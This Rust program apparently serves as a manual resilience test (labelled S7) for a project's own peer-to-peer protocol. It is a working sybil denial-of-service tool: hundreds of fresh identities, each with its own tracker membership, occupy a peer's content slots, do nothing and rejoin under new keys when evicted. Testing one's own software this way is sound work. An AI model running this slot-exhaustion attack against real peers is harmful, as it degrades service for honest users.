//! An attack to try by hand (S7): many members at one address take the places of a content at a peer, and
//! use them for nothing. Each has a key of its own, opens the content with "want", asks for nothing and
//! answers pings; whoever is sent away comes again with another key. (300 of them at nice 19, debug build:
//! a download of 8 MB from elsewhere takes 0.8 to 1.4 s instead of 0.6 s.)
//!
//! `crowd JOIN PEER ADDR:PORT CONTENT COUNT`: run it from an address that is not on the peer's own link
//! (a network namespace with a route), and download the content from elsewhere meanwhile.
#![allow(clippy::print_stdout, reason = "a program to try something with")]

use std::error::Error;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::channel::{Channel, Purpose};
use common::id::{ContentId, PeerId};
use common::identity::Identity;
use common::join::JoinString;
use common::limits::{MAX_PEER_FRAME, MAX_TRACKER_FRAME};
use common::wire::peer::{HaveState, Hello, Open, PeerMsg};
use common::wire::tracker::{self, Reply, Request, share_digest};
use tokio::net::TcpStream;

type Outcome<T> = Result<T, Box<dyn Error + Send + Sync>>;

/// Whom to attack.
#[derive(Clone)]
struct Target {
    join: JoinString,
    peer: PeerId,
    addr: SocketAddr,
    content: ContentId,
}

#[derive(Default)]
struct Counts {
    connected: AtomicUsize,
    open: AtomicUsize,
    refused: AtomicUsize,
    sent_away: AtomicUsize,
}

static COUNTS: Counts = Counts {
    connected: AtomicUsize::new(0),
    open: AtomicUsize::new(0),
    refused: AtomicUsize::new(0),
    sent_away: AtomicUsize::new(0),
};

/// A gauge that goes down when dropped.
struct Counted(&'static AtomicUsize);

impl Counted {
    fn new(gauge: &'static AtomicUsize) -> Self {
        gauge.fetch_add(1, Ordering::Relaxed);
        Self(gauge)
    }
}

impl Drop for Counted {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

#[tokio::main]
async fn main() -> Outcome<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [join, peer, addr, content, count] = args.as_slice() else {
        return Err("usage: crowd JOIN PEER ADDR:PORT CONTENT COUNT".into());
    };
    let target = Target {
        join: join.parse()?,
        peer: peer.parse()?,
        addr: addr.parse()?,
        content: content.parse()?,
    };
    for _ in 0..count.parse::<usize>()? {
        let target = target.clone();
        tokio::spawn(async move {
            loop {
                // However it ended: again, as somebody else.
                let _ = attack(&target).await;
                COUNTS.sent_away.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        });
    }
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let get = |count: &AtomicUsize| count.load(Ordering::Relaxed);
        println!(
            "connected {}, places {}, refused {}, sent away {}",
            get(&COUNTS.connected),
            get(&COUNTS.open),
            get(&COUNTS.refused),
            get(&COUNTS.sent_away)
        );
    }
}

/// One life of one member.
async fn attack(target: &Target) -> Outcome<()> {
    let channel = Channel::new(&Identity::generate()?)?;
    let membership = membership(&channel, &target.join).await?;
    let stream = TcpStream::connect(target.addr).await?;
    let secure = channel.connect(stream, &target.peer, Purpose::Peer).await?;
    let (mut reader, mut writer) = secure.into_frames();
    let hello = PeerMsg::Hello(Hello {
        versions: (1, 1),
        agent: "crowd".to_owned(),
        membership,
        port: 0,
        features: 0,
        max_queued: 64 << 20,
        in_touch: None,
        number: None,
    });
    let want = Open { handle: 0, id: target.content, state: HaveState::None, want: true };
    for msg in [hello, PeerMsg::Open(want)] {
        writer.write(msg.kind(), &msg.body()).await?;
    }
    writer.flush().await?;
    let _connected = Counted::new(&COUNTS.connected);
    let mut open = None;
    loop {
        let frame = reader.read(MAX_PEER_FRAME).await?;
        match PeerMsg::decode(frame.kind, &frame.body)? {
            Some(PeerMsg::OpenOk(_)) => open = Some(Counted::new(&COUNTS.open)),
            Some(PeerMsg::OpenNo { .. }) => {
                COUNTS.refused.fetch_add(1, Ordering::Relaxed);
                return Ok(());
            }
            Some(PeerMsg::Close { .. }) => {
                drop(open.take());
                return Ok(());
            }
            Some(PeerMsg::Ping(nonce)) => {
                let pong = PeerMsg::Pong(nonce);
                writer.write(pong.kind(), &pong.body()).await?;
                writer.flush().await?;
            }
            _ => {}
        }
    }
}

/// What the tracker signs for a new key. It is good for hours, so no connection is kept.
async fn membership(channel: &Channel, join: &JoinString) -> Outcome<Vec<u8>> {
    let stream = TcpStream::connect((join.host(), join.port())).await?;
    let secure = channel.connect(stream, &join.tracker(), Purpose::Tracker).await?;
    let (mut reader, mut writer) = secure.into_frames();
    let hello = Request::Hello(tracker::Hello {
        versions: (1, 1),
        agent: "crowd".to_owned(),
        nick: "crowd".to_owned(),
        port: 9,
        local: Vec::new(),
        proof: None,
        digest: share_digest([]),
        punches: false,
        counts: false,
    });
    writer.write(hello.kind(), &hello.body()).await?;
    writer.flush().await?;
    let frame = reader.read(MAX_TRACKER_FRAME).await?;
    match Reply::decode(frame.kind, &frame.body)? {
        Some(Reply::Welcome(welcome)) => Ok(welcome.membership),
        other => Err(format!("{other:?}").into()),
    }
}
